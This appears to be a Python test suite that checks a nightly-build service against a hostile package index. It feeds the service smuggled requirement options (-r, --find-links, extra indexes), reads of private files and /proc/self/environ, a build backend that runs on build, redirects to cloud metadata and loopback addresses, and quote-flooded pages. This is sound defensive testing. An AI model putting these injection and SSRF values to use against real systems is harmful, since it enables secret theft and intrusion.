"""An index of packages that is hostile, and one that asks for a password: nothing of it is executed
on the service's machine, nobody else is asked, and no secret is told."""
import os
import subprocess
import time
import zipfile

import pytest

from hostile_index import HostileIndex, SecretsOfProcesses
from world import BIN, UV, git, script

SECRET = "correct-horse-battery"
# What reads everything that the service tells about builds.
ROUTES = ["/api/v1/builds", "/api/v1/nights", "/api/v1/jobs", "/api/v1/runners", "/readyz",
          "/metrics", "/api/v1/status", "/"]


@pytest.fixture
def index():
    made = HostileIndex()
    yield made
    made.stop()


@pytest.fixture
def trap():
    """Nobody has a reason to ask it."""
    made = HostileIndex()
    yield made
    assert made.asked == []
    made.stop()


@pytest.fixture
def service(world, index):
    w = world(environment={"indexes": [index.url], "uv": str(UV), "timeout": 60})
    w.write_secret("private.txt", SECRET)
    w.publish_nightly("2026-08-01")
    w.start_daemon()
    w.wait("the first nightly", lambda: w.items("builds"))
    return w


def judged(w, version, seconds=90):
    return w.wait(f"a verdict on {version}", lambda: next(
        (b for b in w.items("builds") if b["version"] == version and b["reason"]), None), seconds)


def told(w):
    """All that the service says, to readers and in its log."""
    said = b""
    for route in ROUTES:
        said += w.request("GET", route)[1]
    for build in w.items("builds"):
        if build["lock"]:
            said += w.request("GET", f"/api/v1/locks/{build['lock']}")[1]
    return said.decode(errors="replace") + (w.folder / "nightjard.log").read_text(errors="replace")


def package(name, version, *requires):
    """The bytes of a wheel."""
    import io
    file, info = io.BytesIO(), f"{name}-{version}.dist-info"
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(f"{name}.py", "")
        archive.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: "
                         f"{version}\n" + "".join(f"Requires-Dist: {one}\n" for one in requires))
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: tests\n"
                         "Root-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")
    return file.getvalue()


def offer(index, name, version, *requires):
    file = f"{name}-{version}-py3-none-any.whl"
    index.list(name, f"/{file}")
    kind = {"Content-Type": "application/zip"}
    index.serve(f"/{file}", package(name, version, *requires), **kind)


def source_with_backend(folder):
    """A repository whose build backend leaves a mark when it is run."""
    path, mark = folder / "evil", folder / "executed"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    (path / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evil"\nversion = "1.0"\n')
    (path / "backend.py").write_text(f"open({str(mark)!r}, 'w').write('executed')\n")
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "Evil")
    return path, mark


@pytest.mark.first
def test_no_line_of_metadata_is_obeyed(service, index, trap):
    w = service
    source, mark = source_with_backend(w.folder)
    private = w.folder / "private.txt"
    (w.folder / "evil-1.0-py3-none-any.whl").write_bytes(package("evil", "1.0"))
    offer(index, "helper", "1.0")
    lines = [
        f"-r {private}", f"-c {private}", f"--requirement={private}", f"-e {source}", str(source),
        f"evil @ git+file://{source}", f"evil @ {source.as_uri()}", f"evil @ {trap.url}/evil.zip",
        f"{trap.url}/evil-1.0-py3-none-any.whl", f"--extra-index-url {trap.url}",
        f"--index-url {trap.url}", f"--find-links {trap.url}", f"--find-links {w.folder}",
        f"helper --config-settings=x={trap.url}", f"helper\r-r {private}", f"helper\n -r {private}",
        f"helper ; python_version > '3' # -r {private}", "helper \\", "${HOME}",
        "evil-1.0-py3-none-any.whl @ .", "helper @ file:///proc/self/environ", "--no-binary :all:",
    ]
    processes = SecretsOfProcesses(SECRET)
    for number, line in enumerate(lines):
        version = w.publish_nightly(f"2026-09-{number + 1:02d}", requires=[line])
        build = judged(w, version)
        assert build["state"] == "unusable", (line, build)
        assert build["reason"].startswith("its METADATA requires '"), build
        assert len(build["reason"]) < 250 and "\n" not in build["reason"]
    assert not mark.exists()
    assert SECRET not in told(w)
    assert processes.stop() == set()
    # What is a requirement is still resolved.
    version = w.publish_nightly("2026-10-01", requires=["helper>=1 ; python_version > '3'"])
    build = w.wait("a lock", lambda: next(
        (b for b in w.items("builds") if b["version"] == version and b["lock"]), None))
    lock = w.request("GET", f"/api/v1/locks/{build['lock']}")[1].decode()
    assert "helper==1.0 \\\n    --hash=sha256:" in lock and index.url in lock


def test_no_line_of_a_dependency_is_obeyed(service, index, trap):
    w = service
    source, mark = source_with_backend(w.folder)
    private = w.folder / "private.txt"
    lines = {
        "git": f"evil @ git+file://{source}", "folder": f"evil @ {source.as_uri()}",
        "url": f"evil @ {trap.url}/evil-1.0-py3-none-any.whl", "options": f"-r {private}",
        "links": f"--find-links {trap.url}", "extra": f"--extra-index-url {trap.url}",
    }
    for number, (name, line) in enumerate(lines.items()):
        offer(index, f"by{name}", "1.0", line)
        version = w.publish_nightly(f"2026-09-{number + 1:02d}", requires=[f"by{name}"])
        build = judged(w, version)
        assert build["state"] == "unusable" and not build["lock"], build
    assert not mark.exists()
    assert SECRET not in told(w)


def test_links_and_redirects_of_an_index_lead_nowhere_else(service, index, trap):
    w = service
    wheel = package("stolen", "1.0")
    stolen = w.folder / "stolen-1.0-py3-none-any.whl"
    stolen.write_bytes(wheel)
    (w.folder / "private-1.0-py3-none-any.whl").write_text(SECRET)
    trap.serve("/stolen-1.0-py3-none-any.whl", wheel)
    trap.list("moved", f"{trap.url}/stolen-1.0-py3-none-any.whl")
    index.list("stolen", stolen.as_uri(), f"{trap.url}/stolen-1.0-py3-none-any.whl",
               "http://169.254.169.254/stolen-1.0-py3-none-any.whl",
               "http://[::1]/stolen-1.0-py3-none-any.whl", "/moved-1.0-py3-none-any.whl")
    index.list("private", (w.folder / "private-1.0-py3-none-any.whl").as_uri())
    index.list("away", f"/stolen-1.0-py3-none-any.whl")
    index.redirect("/moved/", f"{trap.url}/moved/")
    index.list("sideways", "/sideways-1.0-py3-none-any.whl")
    index.redirect("/sideways-1.0-py3-none-any.whl", f"{trap.url}/stolen-1.0-py3-none-any.whl")
    index.list("metadata", "/metadata-1.0-py3-none-any.whl")
    index.redirect("/metadata-1.0-py3-none-any.whl", "http://169.254.169.254/latest/meta-data/")
    for number, name in enumerate(["stolen", "private", "moved", "sideways", "metadata"]):
        version = w.publish_nightly(f"2026-09-{number + 1:02d}", requires=[name])
        build = judged(w, version)
        assert build["state"] in ("unusable", "found") and not build["lock"], build
    said = told(w)
    begin = SECRET[:4].encode()  # uv tells the first four bytes of what is no archive
    assert not any(told in said.lower() for told in (SECRET, begin.hex(), begin[::-1].hex()))


def test_a_nightly_s_own_link_leads_nowhere_else(world, index, trap):
    wheels = [f"torch-2.14.0.dev2026080{day}%2Bcpu-cp311-cp311-linux_x86_64.whl"
              for day in (1, 2, 3)]
    index.list("torch", wheels[0], f"{trap.url}/{wheels[1]}",
               f"http://user:secret@127.0.0.1/{wheels[2]}")
    index.redirect(f"/torch/{wheels[0]}", f"{trap.url}/wheel")
    w = world(source={"index": index.url, "first_nightlies": 9})
    w.start_daemon()
    for date in ("20260801", "20260802"):
        build = judged(w, f"2.14.0.dev{date}+cpu")
        assert "which is an internal address that nobody has configured" in build["reason"], build
    assert "user:secret" not in told(w)


@pytest.mark.parametrize("piece", ['<a href="x>', "<a href='x\">", '<b title="', "<a href=\"x'"])
def test_a_page_of_quotes_holds_nothing_up(world, index, piece):
    page = piece * (6_400_000 // len(piece))
    index.serve("/torch/", page)
    index.serve("/helper/", page)
    w = world(environment={"indexes": [index.url], "uv": str(UV), "timeout": 60})
    w.publish_nightly("2026-09-01", requires=["helper"])
    w.start_daemon()
    build = judged(w, "2.14.0.dev20260901+cpu")
    assert build["state"] in ("unusable", "found") and not build["lock"]
    process = w.processes["nightjard"]
    assert cpu_seconds(process.pid) < 20
    # As the list of nightlies, too.
    w.kill("nightjard")
    w.overrides["source"] = {"index": index.url}
    w.start_daemon_again()
    count = len(index.asked)
    w.wait("two more listings", lambda: len(index.asked) > count + 1)
    begin = time.monotonic()
    assert w.kill("nightjard", 15) == 0
    assert time.monotonic() - begin < 10


def test_an_index_that_stands_still_does_not_keep_the_service_from_its_end(service, index):
    w = service
    index.stand_still("/helper/")
    w.publish_nightly("2026-09-01", requires=["helper"])
    w.wait("the question", lambda: any(path == "/helper/" for path, _ in index.asked))
    begin = time.monotonic()
    assert w.kill("nightjard", 15) == 0
    assert time.monotonic() - begin < 10


def cpu_seconds(pid):
    fields = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def test_a_password_of_an_index_is_told_to_that_index_alone(world, trap):
    index = HostileIndex(login=("reader", SECRET))
    offer(index, "helper", "1.0")
    index.redirect("/leads/", f"{trap.url}/{SECRET}/leads/")
    w = world(environment={"indexes": [index.url], "uv": str(UV), "timeout": 60})
    w.write_secret("logins", f"machine 127.0.0.1:{index.url.rpartition(':')[2]} login reader "
                             f"password {SECRET}")
    w.overrides["service"] = {"credentials_file": str(w.folder / "logins")}
    w.write_config()
    processes = SecretsOfProcesses(SECRET)
    w.publish_nightly("2026-08-01", requires=["helper"])
    w.start_daemon()
    w.start_scripted("nightjar-runner", "scripted", "cache", script(), "--credentials",
                     w.folder / "logins")
    w.wait("the first night", lambda: w.night_done(1), 120)
    assert list((w.folder / "cache" / "env").glob("*/site-packages/helper.py"))
    assert any(path == "/helper/" and login for path, login in index.asked)
    build = judged(w, w.publish_nightly("2026-08-02", requires=["leads"]))
    assert "which is an internal address that nobody has configured" in build["reason"]
    said = told(w) + (w.folder / "nightjar-runner.log").read_text(errors="replace")
    said += "".join(issue.read_text() for issue in w.issues())
    assert SECRET not in said and "cmVhZGVy" not in said
    assert processes.stop() == set() and processes.looks > 10
    index.stop()


@pytest.mark.first
def test_a_configured_password_is_refused_and_not_repeated(world):
    w = world()
    w.overrides["environment"] = {"indexes": [f"https://reader:{SECRET}@index.example.org/simple"]}
    w.write_config()
    done = subprocess.run([BIN / "nightjard", "--config", w.config, "--check-config"],
                          capture_output=True, text=True)
    assert done.returncode == 2
    assert SECRET not in done.stdout + done.stderr
    assert "credentials_file" in done.stderr
